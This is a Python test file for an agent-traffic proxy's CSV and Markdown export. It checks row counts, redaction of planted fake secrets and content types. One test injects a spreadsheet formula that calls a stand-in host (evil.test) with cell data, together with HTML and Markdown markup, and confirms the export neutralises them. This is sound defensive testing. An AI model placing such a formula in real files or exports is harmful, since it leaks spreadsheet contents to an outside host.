"""`undoproxy export --format csv|md` of a real session: one row per step, secrets absent."""

from __future__ import annotations

import csv
import io
import re

import pytest

from tests.support.proc import Undoproxy
from tests.support.servers import ThreadedServer

# Planted where agents really put them: a header, a query parameter, a JSON body, a form body.
SECRETS = ("sk-live-HEADER-7f3a", "QUERY-KEY-91c2", "hunter2-BODY-55aa", "FORM-PW-3e8d")


def _traffic(proxy: Undoproxy, upstream: ThreadedServer, session: str) -> None:
    with proxy.agent(session, headers={"Authorization": f"Bearer {SECRETS[0]}"}) as agent:
        agent.get(f"{upstream.base_url}/search?q=cats&api_key={SECRETS[1]}").raise_for_status()
        agent.post(
            f"{upstream.base_url}/users", json={"name": "Ada", "password": SECRETS[2]}
        ).raise_for_status()
        agent.post(
            f"{upstream.base_url}/login", data={"user": "ada", "password": SECRETS[3]}
        ).raise_for_status()
        agent.delete(f"{upstream.base_url}/users/7").raise_for_status()


def _export(proxy: Undoproxy, session: str, fmt: str) -> str:
    done = proxy.cli("export", session, "--format", fmt)
    assert done.returncode == 0, done.stderr
    return done.stdout


def test_csv_has_one_row_per_step_and_no_secret(
    proxy: Undoproxy, tls_upstream: ThreadedServer, session_id: str
) -> None:
    _traffic(proxy, tls_upstream, session_id)
    text = _export(proxy, session_id, "csv")

    rows = list(csv.DictReader(io.StringIO(text)))
    steps = proxy.api("GET", f"/api/sessions/{session_id}").json()["steps"]
    assert len(rows) == len(steps) == 4
    assert [r["seq"] for r in rows] == ["1", "2", "3", "4"]
    assert [r["method"] for r in rows] == ["GET", "POST", "POST", "DELETE"]
    assert [r["kind"] for r in rows] == ["read", "mutation", "mutation", "mutation"]
    assert [r["status"] for r in rows] == ["succeeded"] * 4
    assert [r["step_id"] for r in rows] == [s["id"] for s in steps]
    assert rows[0]["url"].startswith(f"{tls_upstream.base_url}/search?q=cats&api_key=")
    assert '"name":"Ada"' in rows[1]["request_body"]  # what was sent, minus the secret
    for row, step in zip(rows, steps, strict=True):  # what the API shows of each step
        assert row["url"] == step["url"]
        assert row["compensation_method"] == ((step["compensation"] or {}).get("method") or "")
    assert rows[3]["compensation_method"] == "PUT"  # the DELETE is undone by recreating it
    for secret in SECRETS:
        assert secret not in text


def test_markdown_is_a_table_with_one_row_per_step_and_no_secret(
    proxy: Undoproxy, tls_upstream: ThreadedServer, session_id: str
) -> None:
    _traffic(proxy, tls_upstream, session_id)
    text = _export(proxy, session_id, "md")

    assert text.startswith(f"# undoproxy session {session_id.replace('_', chr(92) + '_')}")
    table = [line for line in text.splitlines() if line.startswith("|")]
    header, separator, *rows = table
    assert re.fullmatch(r"\|(---\|)+", separator)
    width = _cells(header)
    assert len(rows) == 4
    assert all(len(_cells(r)) == len(width) for r in rows)  # nothing an agent sent broke a row
    assert [_cells(r)[0] for r in rows] == ["1", "2", "3", "4"]
    assert "POST" in rows[1] and "/users" in rows[1] and "succeeded" in rows[1]
    for secret in SECRETS:
        assert secret not in text


def test_what_the_agent_wrote_stays_text(
    proxy: Undoproxy, plain_upstream: ThreadedServer, session_id: str
) -> None:
    intent = '=HYPERLINK("http://evil.test/?"&A1, "x") | <b>bold</b> *why*'
    with proxy.agent(session_id, headers={"X-Undoproxy-Intent": intent}) as agent:
        agent.post(f"{plain_upstream.base_url}/notes", json={"n": 1}).raise_for_status()

    [row] = list(csv.DictReader(io.StringIO(_export(proxy, session_id, "csv"))))
    assert row["intent"] == "'" + intent  # a spreadsheet shows it, never runs it

    md = _export(proxy, session_id, "md")
    header, _, step = [line for line in md.splitlines() if line.startswith("|")]
    assert len(_cells(step)) == len(_cells(header))  # its | did not add a column
    assert "<b>" not in md and "&lt;b&gt;" in md
    assert r"\*why\*" in md


@pytest.mark.parametrize("fmt", ["csv", "md"])
def test_the_api_serves_each_format_with_its_type(
    proxy: Undoproxy, plain_upstream: ThreadedServer, session_id: str, fmt: str
) -> None:
    _traffic(proxy, plain_upstream, session_id)
    r = proxy.api("GET", f"/api/sessions/{session_id}/export?format={fmt}")
    assert r.status_code == 200
    expected = {"csv": "text/csv", "md": "text/markdown"}[fmt]
    assert r.headers["Content-Type"].split(";")[0] == expected
    for secret in SECRETS:
        assert secret not in r.text


def test_an_unknown_format_is_refused_with_the_list(proxy: Undoproxy, session_id: str) -> None:
    proxy.api("POST", "/api/sessions", json={"id": session_id})
    r = proxy.api("GET", f"/api/sessions/{session_id}/export?format=xlsx")
    assert r.status_code == 400
    assert "jsonl, har, csv, md" in r.json()["message"]


def _cells(row: str) -> list[str]:
    """A Markdown table row's cells, split on the pipes that are not escaped."""
    return [c.strip() for c in re.split(r"(?<!\\)\|", row.strip())[1:-1]]
